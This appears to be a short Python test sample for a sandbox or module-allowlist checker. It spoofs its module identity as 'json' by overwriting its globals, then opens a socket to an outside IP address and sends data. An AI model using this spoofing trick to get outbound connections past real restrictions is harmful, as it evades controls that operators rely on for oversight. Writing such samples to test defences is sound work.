"""The program takes over the identity of an allowed module."""
import json

globals().update(__name__="json", __file__=json.__file__, __spec__=json.__spec__, __package__="json", __loader__=json.__loader__)
import socket

socket.create_connection(("93.184.216.35", 9000)).sendall(b"data")
